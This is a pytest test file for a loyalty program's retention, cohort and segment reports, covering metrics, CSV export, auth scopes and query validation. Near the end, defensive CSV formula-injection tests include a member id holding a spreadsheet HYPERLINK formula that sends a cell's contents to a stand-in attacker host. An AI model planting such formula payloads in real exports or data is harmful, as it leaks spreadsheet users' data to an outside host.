"""Retention reports over HTTP: every number below is worked out by hand from the orders made."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest

from loyalty.members.models import Member
from loyalty.reports import service
from tests import factories as f


def at(text: str) -> datetime:
    return datetime.fromisoformat(text.replace("Z", "+00:00"))


def pay(client, headers, customer_id, amount, when, order_id=None):
    event = f.paid(customer_id, order_id, [f.line(unit_price=amount)], occurred_at=when, email=None)
    response = client.post("/v1/events", json=event, headers=headers)
    assert response.status_code == 200, response.get_json()
    return event["order"]["id"]


def enroll(client, headers, customer_id):
    body = {"id": customer_id, "email": f"{customer_id}@example.com"}
    response = client.post("/v1/members", json=body, headers=headers)
    assert response.status_code in (200, 201), response.get_json()


@pytest.fixture
def reports(keys):
    return keys["reports"]


@pytest.fixture
def history(client, admin):
    """m1, m2 are members; n1, n2 order without being members (auto-enrol off).

    Period [2026-03-01, 2026-04-01):
    - m1: 100.00 on 02-10 (before), 40.00 on 03-05, 60.00 on 03-15 (10.00 refunded later)
    - m2: 80.00 on 03-10 (new), and a canceled order
    - n1: 50.00 on 01-20 only (a customer at the start who did not come back)
    - n2: 20.00 on 03-01T00:00Z, 30.00 on 03-11, 10.00 on 03-31 (new), 99.99 on 04-01 (after)
    """
    assert client.put("/v1/program", json={"auto_enroll": False}, headers=admin).status_code == 200
    enroll(client, admin, "m1")
    enroll(client, admin, "m2")
    pay(client, admin, "m1", 10000, at("2026-02-10T12:00:00Z"))
    pay(client, admin, "m1", 4000, at("2026-03-05T12:00:00Z"))
    refunded = pay(client, admin, "m1", 6000, at("2026-03-15T12:00:00Z"))
    refund = f.refunded(refunded, "m1", amount=1000, occurred_at=at("2026-05-01T00:00:00Z"))
    assert client.post("/v1/events", json=refund, headers=admin).status_code == 200
    pay(client, admin, "m2", 8000, at("2026-03-10T08:00:00Z"))
    cancel = f.canceled("ord_canceled", "m2", occurred_at=at("2026-03-12T00:00:00Z"))
    assert client.post("/v1/events", json=cancel, headers=admin).status_code == 200
    pay(client, admin, "n1", 5000, at("2026-01-20T00:00:00Z"))
    pay(client, admin, "n2", 2000, at("2026-03-01T00:00:00Z"))
    pay(client, admin, "n2", 3000, at("2026-03-11T00:00:00Z"))
    pay(client, admin, "n2", 1000, at("2026-03-31T00:00:00Z"))
    pay(client, admin, "n2", 9999, at("2026-04-01T00:00:00Z"))


MARCH = "/v1/reports/retention?from=2026-03-01&to=2026-04-01"


def test_retention_numbers_overall_and_by_membership(client, admin, reports, history):
    response = client.get(MARCH, headers=reports)
    assert response.status_code == 200, response.get_json()
    body = response.get_json()
    assert body["from"] == "2026-03-01T00:00:00+00:00" and body["currency"] == "USD"
    overall = {key: body[key] for key in body["members"]}
    assert overall == {
        "customers": 3,  # E: m1, m2, n2
        "new_customers": 2,  # N: m2, n2
        "returning_customers": 1,  # m1
        "customers_at_start": 2,  # S: m1, n1
        "orders": 6,
        "revenue": 23000,  # 40 + 60 - 10 + 80 + 20 + 30 + 10
        "average_order_value": 3833,  # 23000 / 6
        "repeat_purchase_rate": "66.67",  # m1 and n2 of 3
        "orders_per_customer": "2.00",
        "avg_days_between_orders": "13.33",  # gaps 10 (m1), 10 + 20 (n2): 40 / 3
        "clv": 11000,  # (190 + 80 + 60) / 3, everything up to `to`
        "retention_rate": "50.00",  # (3 - 2) / 2 × 100
    }
    assert body["members"] == {
        "customers": 2,
        "new_customers": 1,
        "returning_customers": 1,
        "customers_at_start": 1,
        "orders": 3,
        "revenue": 17000,
        "average_order_value": 5667,
        "repeat_purchase_rate": "50.00",
        "orders_per_customer": "1.50",
        "avg_days_between_orders": "10.00",
        "clv": 13500,  # (190 + 80) / 2
        "retention_rate": "100.00",
    }
    assert body["non_members"] == {
        "customers": 1,
        "new_customers": 1,
        "returning_customers": 0,
        "customers_at_start": 1,
        "orders": 3,
        "revenue": 6000,
        "average_order_value": 2000,
        "repeat_purchase_rate": "100.00",
        "orders_per_customer": "3.00",
        "avg_days_between_orders": "15.00",
        "clv": 6000,
        "retention_rate": "0.00",
    }
    # Erasing a member takes their customer id off their orders, not their orders out of history.
    assert client.delete("/v1/members/m1", headers=admin).status_code == 204
    after = client.get(MARCH, headers=reports).get_json()
    assert after.pop("data_as_of") >= body.pop("data_as_of")  # refreshed: the erasure is in
    assert after == body
    cohorts = client.get("/v1/reports/cohorts", headers=reports).get_json()["items"]
    assert [(row["cohort"], row["customers"], row["retention"]) for row in cohorts] == [
        ("2026-01", 1, [1, 0, 0, 0]),
        ("2026-02", 1, [1, 1, 0]),
        ("2026-03", 2, [2, 1]),
    ]


def test_retention_with_offsets_and_an_empty_period(client, reports, history):
    # 2026-03-01T00:00Z is 2026-02-28T23:00-01:00: n2's first March order is at the very start.
    shifted = client.get(
        "/v1/reports/retention?from=2026-02-28T23:00:00-01:00&to=2026-03-02T00:00:00%2B00:00",
        headers=reports,
    ).get_json()
    assert (shifted["customers"], shifted["new_customers"], shifted["orders"]) == (1, 1, 1)
    empty = client.get(
        "/v1/reports/retention?from=2020-01-01&to=2020-02-01", headers=reports
    ).get_json()
    assert empty["customers"] == empty["customers_at_start"] == empty["orders"] == 0
    assert empty["retention_rate"] is None and empty["repeat_purchase_rate"] is None
    assert empty["clv"] is None and empty["avg_days_between_orders"] is None


def test_cohorts_by_first_order_month(client, reports, history):
    response = client.get("/v1/reports/cohorts?by=first_order_month", headers=reports)
    assert response.status_code == 200, response.get_json()
    body = response.get_json()
    assert body["by"] == "first_order_month"
    assert body["items"] == [
        {
            "cohort": "2026-01",
            "customers": 1,
            "orders": 1,
            "revenue": 5000,
            "repeat_purchase_rate": "0.00",
            "orders_per_customer": "1.00",
            "clv": 5000,
            "retention": [1, 0, 0, 0],  # through April, the latest month with an order
        },
        {
            "cohort": "2026-02",
            "customers": 1,
            "orders": 3,
            "revenue": 19000,
            "repeat_purchase_rate": "100.00",
            "orders_per_customer": "3.00",
            "clv": 19000,
            "retention": [1, 1, 0],
        },
        {
            "cohort": "2026-03",
            "customers": 2,
            "orders": 5,
            "revenue": 23999,
            "repeat_purchase_rate": "50.00",
            "orders_per_customer": "2.50",
            "clv": 12000,  # 23999 / 2, rounded half up
            "retention": [2, 1],  # n2 ordered again in April
        },
    ]
    default = client.get("/v1/reports/cohorts", headers=reports).get_json()
    assert default == body


def test_cohorts_by_referral_and_by_reward(client, admin, storefront, reports):
    from tests.referrals.helpers import claim, code_of
    from tests.rewards.helpers import make_member, make_reward, redeem

    now = datetime.now(UTC)
    pay(client, storefront, "ana", 5000, now - timedelta(days=3))
    code = code_of(client, storefront, "ana")
    friend = f.paid(
        "bea",
        lines=[f.line(unit_price=6000)],
        occurred_at=now - timedelta(days=2),
        referral_code=code,
        ip="198.51.100.20",
    )
    body = client.post("/v1/events", json=friend, headers=storefront).get_json()
    assert [e["status"] for e in body["effects"] if e["kind"] == "referral"] == ["converted"]
    pay(client, storefront, "bea", 1000, now - timedelta(days=1))
    # dan claims ana's referral and pays his first order with the friend's reward code.
    claimed = claim(client, storefront, code, "dan@example.com", customer_id="dan")
    assert claimed.status_code == 201, claimed.get_json()
    first = f.paid(
        "dan",
        lines=[f.line(unit_price=6000, discount=1000)],
        occurred_at=now - timedelta(hours=2),
        reward_codes=[claimed.get_json()["friend_reward"]["code"]],
    )
    body = client.post("/v1/events", json=first, headers=storefront).get_json()
    assert [e["kind"] for e in body["effects"]].count("reward_code_used") == 1
    assert [e["status"] for e in body["effects"] if e["kind"] == "referral"] == ["converted"]

    make_member(client, admin, "cleo", points=1000)
    reward = make_reward(client, admin, name="Ten off")
    issued = redeem(client, storefront, "cleo", reward["id"]).get_json()
    used = f.paid(
        "cleo",
        lines=[f.line(unit_price=4000, discount=1000)],
        occurred_at=now - timedelta(hours=1),
        reward_codes=[issued["code"]],
    )
    body = client.post("/v1/events", json=used, headers=storefront).get_json()
    assert [e["kind"] for e in body["effects"]].count("reward_code_used") == 1

    def rows(by):
        response = client.get(f"/v1/reports/cohorts?by={by}", headers=reports)
        assert response.status_code == 200, response.get_json()
        return {
            row["cohort"]: (row["customers"], row["orders"], row["revenue"])
            for row in response.get_json()["items"]
        }

    assert rows("referral") == {"none": (2, 2, 8000), "referred": (2, 3, 12000)}
    assert rows("reward") == {
        "none": (2, 3, 12000),  # ana, bea
        "Ten off": (1, 1, 3000),  # cleo's catalog reward
        "referral": (1, 1, 5000),  # dan's friend reward
    }


def test_a_cohort_no_domain_registered_is_a_validation_error(client, app, reports, monkeypatch):
    assert client.get("/v1/reports/cohorts?by=referral", headers=reports).status_code == 200
    monkeypatch.delitem(app.extensions["loyalty.hooks"].report_cohorts, "referral")
    response = client.get("/v1/reports/cohorts?by=referral", headers=reports)
    assert response.status_code == 422 and response.get_json()["type"] == "validation-error"
    bogus = client.get("/v1/reports/cohorts?by=zodiac", headers=reports)
    assert bogus.status_code == 422 and "by" in bogus.get_json()["errors"]["query"]


@pytest.fixture
def shoppers(client, admin):
    """One member built for each segment (buyers' net spend: 600, 500, 30, 20, 80 and 0)."""
    now = datetime.now(UTC)
    enroll(client, admin, "new")
    pay(client, admin, "loyal", 30000, now - timedelta(days=20, hours=1))
    pay(client, admin, "loyal", 30000, now - timedelta(days=10, hours=1))
    pay(client, admin, "atrisk", 50000, now - timedelta(days=200))
    for days in (5, 15, 25):
        pay(client, admin, "freq", 1000, now - timedelta(days=days))
    pay(client, admin, "lapsed", 2000, now - timedelta(days=300))
    pay(client, admin, "regular", 8000, now - timedelta(days=10))
    pay(client, admin, "gone", 90000, now - timedelta(days=1))
    assert client.delete("/v1/members/gone", headers=admin).status_code == 204


def segments_of(body):
    return {item["segment"]: item["member_ids"] for item in body["items"]}


def test_a_fractional_median_order_value_is_floored_on_both_databases(client, admin, reports):
    """PostgreSQL's median AOV is a decimal (sum() is NUMERIC): floored, as on SQLite, so both
    put the same members in frequent_low_aov and show the threshold they used."""
    now = datetime.now(UTC)
    amounts = {
        "x": [500],
        "f": [1000, 1000, 1000, 1000, 1001],  # AOV 1000.2: below 1000.33, not below 1000
        "m": [1000, 1000, 1001],  # AOV 1000.33: the median of five buyers
        "y": [5000],
        "z": [6000],
    }
    for customer, paid in amounts.items():
        for days, amount in enumerate(paid, start=1):
            pay(client, admin, customer, amount, now - timedelta(days=days))
    body = client.get("/v1/reports/segments?high_value_min=1000000", headers=reports).get_json()
    assert body["thresholds"]["low_aov_max"] == 1000
    assert "f" not in segments_of(body)["frequent_low_aov"]
    assert "f" in segments_of(body)["other_active"]


def test_each_segment_gets_the_member_built_for_it(client, reports, shoppers):
    response = client.get("/v1/reports/segments?high_value_top=0.4", headers=reports)
    assert response.status_code == 200, response.get_json()
    body = response.get_json()
    assert segments_of(body) == {
        "new_subscribers": ["new"],
        "loyal_high_value": ["loyal"],
        "at_risk_high_value": ["atrisk"],
        "low_value_inactive": ["lapsed"],
        "frequent_low_aov": ["freq"],
        "other_active": ["regular"],
    }
    assert all(item["count"] == 1 and not item["member_ids_truncated"] for item in body["items"])
    assert body["buyers"] == 5  # the erased member is not reported
    assert body["thresholds"] == {
        "active_days": 90,
        "frequent_orders": 3,
        "high_value_top": "0.4",
        "high_value_min": 50000,  # the 2nd of 5 buyers from the top
        "low_aov_max": 8000,  # median of 10, 20, 80, 300 and 500
    }
    # The default share (0.2) makes only the top buyer high value.
    default = segments_of(client.get("/v1/reports/segments", headers=reports).get_json())
    assert default["loyal_high_value"] == ["loyal"]
    assert default["low_value_inactive"] == ["atrisk", "lapsed"]
    # An explicit threshold, a longer activity window, fewer frequent orders, a capped list.
    custom = client.get(
        "/v1/reports/segments?high_value_min=70000&active_days=400&frequent_orders=2"
        "&low_aov_max=20000&member_ids_limit=1",
        headers=reports,
    ).get_json()
    counts = {item["segment"]: item["count"] for item in custom["items"]}
    assert counts == {
        "new_subscribers": 1,
        "loyal_high_value": 0,
        "at_risk_high_value": 0,
        "low_value_inactive": 0,
        "frequent_low_aov": 1,  # freq: 3 orders of 10.00; loyal's average is 300.00
        "other_active": 4,
    }
    other = next(item for item in custom["items"] if item["segment"] == "other_active")
    assert other["member_ids"] == ["atrisk"] and other["member_ids_truncated"] is True
    assert custom["thresholds"]["high_value_top"] is None


def test_a_buyer_whose_orders_were_all_refunded_is_not_high_value(client, admin, reports):
    order_id = pay(client, admin, "c_back", 5000, datetime.now(UTC) - timedelta(days=2))
    refund = f.refunded(order_id, "c_back", amount=5000)
    assert client.post("/v1/events", json=refund, headers=admin).status_code == 200
    body = client.get("/v1/reports/segments", headers=reports).get_json()
    assert body["thresholds"]["high_value_min"] == 0  # the top (only) buyer's net spend
    assert segments_of(body)["other_active"] == ["c_back"]


def test_segments_as_csv(client, reports, shoppers):
    response = client.get("/v1/reports/segments?format=csv&high_value_top=0.4", headers=reports)
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert [(r["customer_id"], r["segment"]) for r in rows] == [
        ("atrisk", "at_risk_high_value"),
        ("freq", "frequent_low_aov"),
        ("lapsed", "low_value_inactive"),
        ("loyal", "loyal_high_value"),
        ("new", "new_subscribers"),
        ("regular", "other_active"),
    ]
    loyal = rows[3]
    assert (loyal["recency_days"], loyal["frequency"], loyal["monetary"]) == ("10", "2", "60000")
    assert (rows[4]["recency_days"], rows[4]["frequency"], rows[4]["monetary"]) == ("", "0", "0")


def test_one_segment_as_json_and_as_csv(client, reports, shoppers):
    response = client.get(
        "/v1/reports/segments?segment=loyal_high_value&high_value_top=0.4", headers=reports
    )
    assert response.status_code == 200, response.get_json()
    body = response.get_json()
    assert body["items"] == [
        {
            "segment": "loyal_high_value",
            "count": 1,
            "member_ids": ["loyal"],
            "member_ids_truncated": False,
        }
    ]
    assert body["buyers"] == 5 and body["thresholds"]["high_value_min"] == 50000
    inactive = client.get(
        "/v1/reports/segments?format=csv&segment=low_value_inactive", headers=reports
    )
    assert inactive.status_code == 200 and inactive.mimetype == "text/csv"
    assert inactive.headers["Content-Disposition"] == (
        'attachment; filename="segment-low_value_inactive.csv"'
    )
    rows = list(csv.DictReader(io.StringIO(inactive.get_data(as_text=True))))
    # The default share (0.2): atrisk is not high value then, so inactive with lapsed.
    assert [(r["segment"], r["customer_id"], r["frequency"]) for r in rows] == [
        ("low_value_inactive", "atrisk", "1"),
        ("low_value_inactive", "lapsed", "1"),
    ]
    empty = client.get(
        "/v1/reports/segments?format=csv&segment=at_risk_high_value", headers=reports
    )
    assert empty.get_data(as_text=True) == "segment,customer_id,recency_days,frequency,monetary\n"


def test_segments_as_of_a_past_moment_ignore_later_orders(client, reports, shoppers):
    as_of = f.iso(datetime.now(UTC) - timedelta(days=100)).replace("Z", "%2B00:00")
    query = f"as_of={as_of}&active_days=120"
    body = client.get(f"/v1/reports/segments?{query}", headers=reports).get_json()
    # Only atrisk (100 days before as_of) and lapsed had bought by then; members enrolled
    # later (by their first order, or "new" today) are not counted. atrisk's order is 100
    # days old then: active within 120 days.
    assert body["buyers"] == 2
    assert sum(item["count"] for item in body["items"]) == 2
    assert segments_of(body)["loyal_high_value"] == ["atrisk"]


@pytest.mark.parametrize(
    "query",
    [
        "",  # from and to are required
        "from=2026-03-01",
        "from=2026-03-01&to=2026-03-01",  # empty period
        "from=2026-04-01&to=2026-03-01",
        "from=2000-01-01&to=2026-01-01",  # longer than ten years
        "from=2026-03-01T00:00:00&to=2026-04-01",  # no offset
        "from=2026-02-30&to=2026-04-01",
        "from=yesterday&to=2026-04-01",
        "from=2026-03-01 00:00:00%2B00:00&to=2026-04-01",  # not the documented form
        "from=2026-03-01%0A&to=2026-04-01",
        "from=0001-01-01T00:00:00%2B01:00&to=2026-04-01",
        "from=2026-03-01&to=2026-04-01&limit=5",  # unknown parameter
    ],
)
def test_bad_retention_queries_are_validation_errors(client, reports, query):
    response = client.get(f"/v1/reports/retention?{query}", headers=reports)
    assert response.status_code == 422, response.get_json()
    assert response.content_type == "application/problem+json"
    assert response.get_json()["type"] == "validation-error"


@pytest.mark.parametrize(
    "query",
    [
        "format=xml",
        "high_value_top=0",
        "high_value_top=1.5",
        "high_value_top=0.2&high_value_min=100",
        "high_value_min=-1",
        "active_days=0",
        "frequent_orders=1",
        "member_ids_limit=10001",
        "as_of=2026-01-01T00:00:00",
        "segment=loyal",  # no such segment
        "segment=",
    ],
)
def test_bad_segment_queries_are_validation_errors(client, reports, query):
    response = client.get(f"/v1/reports/segments?{query}", headers=reports)
    assert response.status_code == 422, response.get_json()
    assert response.get_json()["type"] == "validation-error"


@pytest.mark.parametrize(
    "path",
    [MARCH, "/v1/reports/cohorts", "/v1/reports/segments", "/v1/reports/segments?format=csv"],
)
def test_reports_need_the_reports_or_admin_scope(client, keys, storefront, path):
    assert client.get(path, headers=keys["reports"]).status_code == 200
    assert client.get(path, headers=keys["admin"]).status_code == 200
    assert client.get(path, headers=storefront).status_code == 403
    assert client.get(path).status_code == 401
    assert client.get(path, headers={"Authorization": "Bearer lk_nope"}).status_code == 401
    enroll(client, storefront, "c_w")
    token = client.post(
        "/v1/widget-tokens", json={"customer_id": "c_w"}, headers=storefront
    ).get_json()["token"]
    widget = client.get(path, headers={"Authorization": f"Bearer {token}"})
    assert widget.status_code == 403 and widget.get_json()["type"] == "forbidden"
    # Refused before the query is read; reports are read-only.
    assert client.get(path + "&bogus=1" if "?" in path else path + "?bogus=1",
                      headers=storefront).status_code == 403  # fmt: skip
    assert client.post(path, headers=keys["reports"]).status_code == 405


def test_openapi_documents_the_reports(client):
    paths = client.get("/openapi.json").get_json()["paths"]
    for path in ("/v1/reports/retention", "/v1/reports/cohorts", "/v1/reports/segments"):
        assert set(paths[path]) == {"get"}
    content = paths["/v1/reports/segments"]["get"]["responses"]["200"]["content"]
    assert set(content) == {"application/json", "text/csv"}


@pytest.mark.parametrize(
    "value, cell",
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1555", "'+1555"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("c_1=2", "c_1=2"),
        ("", ""),
        (None, ""),
        (-500, -500),  # a number of ours, never text
    ],
)
def test_a_csv_cell_never_starts_a_formula(value, cell):
    assert service.csv_cell(value) == cell


def test_segments_csv_writes_formula_like_ids_as_text():
    text = "".join(service.segments_csv(iter([("other_active", "=1+1", 3, 1, -20)])))
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row == {
        "segment": "other_active",
        "customer_id": "'=1+1",
        "recency_days": "3",
        "frequency": "1",
        "monetary": "-20",
    }


def test_the_segments_export_escapes_a_member_id_a_spreadsheet_would_run(client, reports, session):
    """An id as the store sent it (or as an import wrote it): the CSV keeps it readable as
    text, with a leading quote, and the JSON report shows it unchanged."""
    evil = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    session.add(Member(customer_id=evil, email="evil@example.com"))
    session.add(Member(customer_id="@shopper", email="at@example.com"))
    session.flush()
    response = client.get("/v1/reports/segments?format=csv", headers=reports)
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert sorted(r["customer_id"] for r in rows) == ["'" + evil, "'@shopper"]
    body = client.get("/v1/reports/segments", headers=reports).get_json()
    assert sorted(segments_of(body)["new_subscribers"]) == sorted([evil, "@shopper"])
